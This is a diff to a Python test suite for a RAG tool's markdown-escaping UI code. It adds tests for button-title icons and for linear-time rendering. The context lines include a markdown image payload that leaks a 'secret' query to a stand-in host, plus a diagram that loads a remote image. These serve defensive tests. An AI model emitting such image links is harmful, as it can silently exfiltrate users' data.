@@ -7,8 +7,10 @@ from hostile import HOSTILE
 from hypothesis import given
 from hypothesis import strategies as st
 from streamlit_markdown import PLAIN, READER, acts, fetches, runs
+from waiting import ends_soon
 
-from ragfilter.ui.look.prose import literal, message, quoted, written
+from ragfilter.models.reply import MOST_BYTES
+from ragfilter.ui.look.prose import literal, message, on_button, quoted, written
 
 FETCHES = (
     "![px](http://x/leak.png?q=secret)",
@@ -102,6 +104,13 @@ def test_an_everyday_title_gets_no_invisible_sign() -> None:
         assert literal(title).replace("\\", "") == title
 
 
+@pytest.mark.parametrize("title", [":material/home: Troll", ":smile:", ": a", "", "Troll: a"])
+def test_a_title_on_a_button_begins_with_no_icon(title: str) -> None:
+    shown = on_button(title)
+    assert shown.replace("\u2060", "") == title
+    assert not shown.startswith((":material", ":smile"))
+
+
 def test_a_message_keeps_its_commands() -> None:
     assert message("No *x*: run `ragfilter index a_b` first") == (
         r"No \*x\*: run `ragfilter index a_b` first"
@@ -118,6 +127,17 @@ def test_no_diagram_is_drawn(fence: str) -> None:
     text = fence.format('flowchart\na@{ img: "http://zqx.example/a.png" }')
     assert "diagram" in fetches(text)
     assert fetches(written(text)) == set()
+
+
+@pytest.mark.parametrize("sign", [*"`~\\$![]:*_ <&\n", "[1]", "![", "](", "``` ", "[1,", "\\`"])
+def test_a_long_run_of_signs_takes_time_in_proportion(sign: str) -> None:
+    """An LLM may answer with nothing else, and every session waits for it to be drawn. In quadratic
+    time the longest would take minutes."""
+    text = sign * (MOST_BYTES // len(sign))
+    with ends_soon():
+        written(text)
+        quoted(text)
+        literal(text)
 
 
 @pytest.mark.parametrize("text", ["$x$", r"\$x\$", r"\\$x\\$", "$$x$$"])
